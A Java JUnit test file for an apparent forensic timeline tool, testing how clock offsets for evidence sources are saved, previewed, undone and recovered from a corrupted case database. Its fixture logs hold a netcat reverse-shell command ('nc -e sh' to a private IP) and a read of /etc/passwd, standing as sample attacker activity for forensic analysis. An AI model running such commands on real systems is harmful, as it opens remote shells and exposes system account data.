package salvor.casefile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.Statement;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import salvor.baseline.Given;
import salvor.casefile.CaseNote.About;
import salvor.evidence.ClockOffsets;
import salvor.evidence.Columns;
import salvor.evidence.Observations;
import salvor.evidence.Oddities;
import salvor.evidence.Quality;
import salvor.jobs.Progress;

/** A case keeps by how much the clocks of its sources were wrong. */
class OffsetsOfACaseTest {
  private static final long SECOND = 1_000_000_000L;
  private static final Instant READ = Instant.ofEpochSecond(Synthetic.START / SECOND);

  @TempDir Path dir;
  private Path evidence;
  private Path folder;
  private Cases cases = cases(READ);

  private static Cases cases(Instant now) {
    return new Cases(
        (paths, progress) -> {
          Given given = Synthetic.read(paths, progress);
          Oddities.mark(given.evidence().observations(), now.plus(Oddities.AHEAD));
          return given;
        },
        Synthetic::judge,
        Clock.fixed(now, ZoneOffset.UTC));
  }

  @BeforeEach
  void writeEvidence() throws IOException {
    folder = dir.resolve("case");
    evidence = Files.createDirectories(dir.resolve("evidence"));
    Files.writeString(evidence.resolve("a.log"), "ls -l\nnc -e sh 10.0.0.9\ncat x\nid\n");
    Files.writeString(evidence.resolve("b.log"), "cat /etc/passwd\nid\nnc\n");
    Files.writeString(evidence.resolve("c.log"), "id\nid\nls /\n");
  }

  private OpenedCase open() throws Exception {
    return cases.open(Opening.inFolder(List.of(evidence), List.of(), folder), Progress.NONE);
  }

  private static List<Object> told(OpenedCase opened) {
    Observations all = opened.evidence().observations();
    List<Object> told = new ArrayList<>();
    for (int row = 0; row < all.size(); row++) {
      told.add(List.of(all.get(row), opened.verdicts().judgement(row)));
    }
    Columns columns = all.columns();
    told.add(List.of(columns.time(), columns.quality(), columns.location(), columns.timeForm()));
    told.add(List.of(all.clocks(), all.timed(), opened.verdicts().perRow()));
    return told;
  }

  private static Map<String, Long> offsets(OpenedCase opened, Random random) {
    Map<String, Long> offsets = new TreeMap<>();
    opened
        .evidence()
        .sources()
        .forEach(source -> {
          if (random.nextBoolean()) {
            offsets.put(source.sha256(), random.nextLong(-40, 41) * 1_000_000L);
          }
        });
    return offsets;
  }

  @Test
  void whateverIsSetIsShownByTheNextAndUndoneToTheByte() throws Exception {
    List<Object> recorded;
    try (OpenedCase opened = open()) {
      recorded = told(opened);
    }
    for (int seed = 0; seed < 25; seed++) {
      Random random = new Random(seed);
      List<Object> live;
      ClockOffsets inForce;
      try (OpenedCase opened = open()) {
        opened.edits().clocks(new KeptClocks(offsets(opened, random), Map.of()));
        opened.edits().clocks(new KeptClocks(offsets(opened, random), Map.of()));
        opened.edits().star(0);
        inForce = opened.clocks();
        OpenedCase moved = opened.retimed(Progress.NONE);
        live = told(moved);
        assertThat(moved.evidence().observations().clocks()).isEqualTo(inForce);
        assertThat(moved.edits().log()).isEqualTo(opened.edits().log());
        assertThat(told(moved.retimed(Progress.NONE))).isEqualTo(live);
      }
      try (OpenedCase opened = open()) {
        assertThat(told(opened)).isEqualTo(live);
        assertThat(opened.evidence().observations().clocks()).isEqualTo(inForce);
        assertThat(opened.notes()).isEmpty();
        assertThat(opened.edits().undoTo(1)).isPresent();
        assertThat(told(opened.retimed(Progress.NONE))).isEqualTo(recorded);
      }
      try (OpenedCase opened = open()) {
        assertThat(told(opened)).isEqualTo(recorded);
        assertThat(opened.edits().clocks().isEmpty()).isTrue();
      }
    }
  }

  @Test
  void aMarkStaysWithItsEvent() throws Exception {
    try (OpenedCase opened = open()) {
      int row = 1;
      opened.edits().tag("kept", row);
      EventId event = opened.marks().event(row);
      String source = opened.evidence().sources().getFirst().sha256();
      opened.edits().clocks(KeptClocks.NONE.offset(source, 90 * SECOND));
      OpenedCase moved = opened.retimed(Progress.NONE);
      int now = moved.marks().rows(event).nextSetBit(0);
      assertThat(now).isNotEqualTo(row);
      assertThat(moved.marks().of(now).tags()).containsExactly("kept");
      assertThat(moved.marks().rows()).hasToString("{" + now + "}");
    }
  }

  @Test
  void whatIsSaidBeforehandIsWhatHappens() throws Exception {
    try (OpenedCase opened = open()) {
      Observations before = opened.evidence().observations();
      String source = opened.evidence().sources().getFirst().sha256();
      ClockOffsets wanted =
          new KeptClocks(Map.of(source, 5_000_000L), Map.of()).of(opened.evidence().sources());
      RetimingPreview preview = opened.preview(wanted, Progress.NONE);
      assertThat(preview.moved()).isEqualTo(4);
      assertThat(preview.verdicts()).isZero();
      assertThat(preview.leaving(before.time(0), before.time(before.timed() - 1) + 1)).isOne();
      assertThat(preview.leaving(0, Long.MAX_VALUE)).isZero();
      assertThat(opened.edits().log()).isEmpty();
    }
  }

  @Test
  void aTimeThatWasPlausibleWhenReadStaysSo() throws Exception {
    cases = cases(READ.minus(Oddities.AHEAD));
    open().close();
    cases = cases(READ.plusSeconds(900_000_000));
    try (OpenedCase opened = open()) {
      Observations all = opened.evidence().observations();
      String first = opened.evidence().sources().getFirst().sha256();
      opened.edits().clocks(KeptClocks.NONE.offset(first, -3600 * SECOND));
      Observations moved = opened.retimed(Progress.NONE).evidence().observations();
      for (int row = 0; row < all.size(); row++) {
        boolean late = moved.time(row) > Synthetic.START;
        assertThat((moved.quality(row) & Quality.TIME_SUSPECT.bit()) != 0).isEqualTo(late);
      }
    }
  }

  @Test
  void aCaseWhoseClocksWereRightIsShownWithoutItsDatabase() throws Exception {
    open().close();
    Path database = folder.resolve("case.mv.db");
    FileTime old = FileTime.fromMillis(1_000_000_000_000L);
    Files.setLastModifiedTime(database, old);
    open().close();
    assertThat(Files.getLastModifiedTime(database)).isEqualTo(old);
    Files.delete(folder.resolve("clocks.right"));
    open().close();
    assertThat(Files.getLastModifiedTime(database)).isNotEqualTo(old);
    assertThat(folder.resolve("clocks.right")).isNotEmptyFile();
  }

  @Test
  void aDatabaseThatKnowsBetterIsToldAndBelievedNextTime() throws Exception {
    open().close();
    byte[] right = Files.readAllBytes(folder.resolve("clocks.right"));
    try (OpenedCase opened = open()) {
      String source = opened.evidence().sources().getFirst().sha256();
      opened.edits().clocks(KeptClocks.NONE.offset(source, SECOND));
      assertThat(folder.resolve("clocks.right")).isEmptyFile();
    }
    Files.write(folder.resolve("clocks.right"), right);
    try (OpenedCase opened = open()) {
      assertThat(opened.evidence().observations().clocks().isEmpty()).isTrue();
      assertThat(opened.notes()).extracting(CaseNote::about).contains(About.CLOCKS_OUT_OF_DATE);
    }
    try (OpenedCase opened = open()) {
      assertThat(opened.evidence().observations().clocks().of(0)).isEqualTo(SECOND);
      assertThat(opened.notes()).isEmpty();
    }
  }

  @Test
  void anOffsetThatIsNoneMakesTheDatabaseUnusableAndNothingElse() throws Exception {
    for (String text : List.of("x", "", "9".repeat(40))) {
      try (OpenedCase opened = open()) {
        String source = opened.evidence().sources().getFirst().sha256();
        opened.edits().clocks(KeptClocks.NONE.offset(source, SECOND));
      }
      change("update entry set content = '" + text + "' where kind = 'OFFSET'");
      try (OpenedCase opened = open()) {
        assertThat(opened.evidence().observations().clocks().isEmpty()).isTrue();
        assertThat(opened.notes()).extracting(CaseNote::about).contains(About.DATABASE_UNUSABLE);
      }
      change("delete from entry");
    }
  }

  @Test
  void anOffsetThatCannotBeAppliedIsToldAndNotApplied() throws Exception {
    try (OpenedCase opened = open()) {
      String source = opened.evidence().sources().getFirst().sha256();
      opened.edits().clocks(KeptClocks.NONE.offset(source, Long.MAX_VALUE));
    }
    try (OpenedCase opened = open()) {
      assertThat(opened.evidence().observations().clocks().isEmpty()).isTrue();
      assertThat(opened.notes()).extracting(CaseNote::about).contains(About.CLOCK_NOT_SET);
      assertThat(opened.edits().undo()).isPresent();
    }
  }

  @Test
  void whatCannotBeReadLeavesTheTimesAsRecordedAndSaysSo() throws Exception {
    try (OpenedCase opened = open()) {
      String source = opened.evidence().sources().getFirst().sha256();
      opened.edits().clocks(KeptClocks.NONE.offset(source, SECOND));
    }
    change("update edit set state = 'NOSUCH'");
    try (OpenedCase opened = open()) {
      assertThat(opened.evidence().observations().clocks().isEmpty()).isTrue();
      assertThat(opened.notes()).extracting(CaseNote::about).contains(About.DATABASE_UNUSABLE);
      assertThatThrownBy(() -> opened.edits().require()).isInstanceOf(CaseUnusable.class);
    }
  }

  @Test
  void whereItCannotBeKeptThatClocksWereRightNothingElseFails() throws Exception {
    Path marker = folder.resolve("clocks.right");
    Cases full =
        new Cases(
            Synthetic::read,
            (given, suspected, progress) -> {
              Files.createDirectories(marker);
              return Synthetic.judge(given, suspected, progress);
            },
            Clock.systemUTC());
    full.open(Opening.inFolder(List.of(evidence), List.of(), folder), Progress.NONE).close();
    Files.delete(marker);
    open().close();
    byte[] right = Files.readAllBytes(marker);
    try (OpenedCase opened = open()) {
      String source = opened.evidence().sources().getFirst().sha256();
      opened.edits().clocks(KeptClocks.NONE.offset(source, SECOND));
    }
    Files.write(marker, right);
    try (OpenedCase opened = open()) {
      Files.delete(marker);
      Files.createDirectory(marker);
      assertThat(opened.notes())
          .extracting(CaseNote::about)
          .containsExactly(About.CLOCKS_OUT_OF_DATE);
      assertThat(opened.edits().log()).hasSize(1);
      assertThat(opened.retimed(Progress.NONE).notes()).as("it is true no more").isEmpty();
    }
  }

  @Test
  void anOffsetWhoseSourceIsGoneIsToldUntilItIsUndone() throws Exception {
    String gone = "ab".repeat(32);
    try (OpenedCase opened = open()) {
      opened.edits().clocks(KeptClocks.NONE.offset(gone, SECOND).zone(gone, ZoneOffset.UTC));
    }
    try (OpenedCase opened = open()) {
      assertThat(opened.notes())
          .containsExactly(new CaseNote(About.CLOCK_WITHOUT_SOURCE, gone, "+1s, zone Z"));
      assertThat(opened.edits().undo()).isPresent();
      assertThat(opened.notes()).isEmpty();
    }
  }

  private void change(String sql) throws Exception {
    try (Connection database =
            DriverManager.getConnection("jdbc:h2:file:" + folder.resolve("case"), "sa", "");
        Statement statement = database.createStatement()) {
      statement.execute(sql);
    }
  }
}
